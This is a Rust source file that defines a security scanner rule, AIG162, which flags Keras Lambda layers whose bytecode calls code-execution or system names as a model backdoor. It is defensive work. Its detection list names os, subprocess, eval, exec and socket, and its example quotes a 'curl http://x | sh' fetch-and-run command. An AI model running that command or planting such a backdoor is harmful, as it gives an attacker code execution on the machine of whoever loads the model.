//! AIG162: Keras Lambda layer bytecode uses code-execution or system names.
use aigis_findings::{Domain, Rule, RuleDocs, Severity, Verdict};

pub static RULE: Rule = Rule {
    id: "AIG162",
    name: "keras-lambda-dangerous",
    domain: Domain::Models,
    severity: Severity::Critical,
    verdict: Verdict::Malicious,
    checklist: &["000#2", "000#3", "002#5"],
    summary: "Keras Lambda layer bytecode uses code-execution or system names",
    docs: RuleDocs {
        what: "Fires when the statically decoded bytecode of a Lambda layer refers to names that run commands, import modules, evaluate code, open files or sockets (`os`, `system`, `subprocess`, `eval`, `exec`, `__import__`, `open`, `socket`, ...).",
        why: "A shape helper does not call `os.system`. This is the classic Keras model backdoor: the command runs when the model is loaded or first called.",
        example: "Lambda 'lambda' bytecode uses __import__, system; constants 'os', 'curl http://x | sh'",
        fix: "Do not load the model.",
        references: &["https://hiddenlayer.com/innovation-hub/models-are-code/"],
    },
};
